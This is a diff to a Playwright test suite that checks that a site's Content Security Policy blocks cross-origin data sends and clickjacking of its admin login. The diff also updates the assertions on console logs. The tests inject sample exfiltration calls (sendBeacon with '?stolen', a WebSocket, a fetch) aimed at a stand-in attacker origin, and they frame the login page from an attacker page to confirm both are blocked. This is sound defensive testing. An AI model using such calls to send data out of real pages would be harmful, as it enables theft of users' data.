@@ -26,7 +26,7 @@ for (const path of ['/', '/admin/login']) {
     }
     expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
     expect(reached).toEqual([]);
-    logged.length = 0;
+    await logged.expect([/ violates the following Content Security Policy directive/]);
   });
 
   test(`${path} sends nothing to another origin`, async ({ page, logged }) => {
@@ -37,21 +37,23 @@ for (const path of ['/', '/admin/login']) {
       navigator.sendBeacon(`${origin}/?stolen`);
       new WebSocket(origin.replace('https', 'wss')).close();
     }, ATTACKER);
-    const blocked = () => logged.filter((line) => /^Connecting to '.*' violates/.test(line));
+    const blocked = () => logged.lines.filter((line) => /^Connecting to '.*' violates/.test(line));
     await expect.poll(blocked).toHaveLength(3);
     expect(reached).toEqual([]);
-    logged.length = 0;
+    await logged.expect([
+      /^Connecting to .* violates the following Content Security Policy directive/,
+      /^Fetch API cannot load /,
+    ]);
   });
 }
 
-test('no other site can show the login in a frame', async ({ page, baseURL, logged }) => {
+test('no other site can show the login in a frame', async ({ page, baseURL }) => {
   const attacker = 'http://127.0.0.1:7777/';
   const body = `<iframe src="${baseURL}/admin/login"></iframe>`;
   await page.route(attacker, (route) => route.fulfill({ contentType: 'text/html', body }));
   await page.goto(attacker);
   const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
   await expect.poll(() => frame?.url()).toBe('chrome-error://chromewebdata/');
-  logged.length = 0;
 });
 
 /** Puts the markup into the page as an injection would; returns the directive that it is said to violate. */
